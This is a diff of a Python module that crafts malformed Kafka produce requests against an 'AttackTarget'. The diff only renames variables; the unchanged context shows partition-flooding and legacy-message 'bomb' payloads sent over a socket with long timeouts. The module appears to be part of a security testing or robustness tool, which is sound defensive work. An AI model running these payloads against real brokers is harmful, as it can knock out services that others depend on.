@@ -172,8 +172,8 @@ def many_partitions(target: AttackTarget) -> int:
     return len(batch) * PARTITIONS
 
 
-def _record(value: bytes) -> bytes:
-    body = b"\0\0\0\x01" + _varint(len(value)) + value + b"\0"
+def _record(record_value: bytes) -> bytes:
+    body = b"\0\0\0\x01" + _varint(len(record_value)) + record_value + b"\0"
     return _varint(len(body)) + body
 
 
@@ -235,9 +235,9 @@ def old_messages(target: AttackTarget) -> int:
         tiny = _old_message(magic)
         for records in (tiny * (OLD_BYTES // len(tiny)), _old_message(magic, 1, bomb)):
             for transactional_id in (None, "t"):
-                part = {"index": 0, "records": records}
+                partition_fields = {"index": 0, "records": records}
                 values: dict[str, Any] = {"transactional_id": transactional_id, "acks": 1}
-                values["topic_data"] = [{"name": TOPIC, "partition_data": [part]}]
+                values["topic_data"] = [{"name": TOPIC, "partition_data": [partition_fields]}]
                 frame = request(PRODUCE, VERSION, timeout=30_000, **values)
                 with target.socket() as connected:
                     connected.settimeout(60.0)
@@ -247,9 +247,11 @@ def old_messages(target: AttackTarget) -> int:
     return most
 
 
-def _old_message(magic: int, codec: int = 0, value: bytes | None = None) -> bytes:
+def _old_message(magic: int, codec: int = 0, record_value: bytes | None = None) -> bytes:
     """A message of an old format without a key, encoded like ``LegacyRecord``."""
-    length_and_value = struct.pack(">i", -1 if value is None else len(value)) + (value or b"")
+    length_and_value = struct.pack(">i", -1 if record_value is None else len(record_value)) + (
+        record_value or b""
+    )
     body = bytes((magic, codec)) + bytes(8 * magic) + struct.pack(">i", -1) + length_and_value
     return struct.pack(">qiI", 0, len(body) + 4, zlib.crc32(body)) + body
 
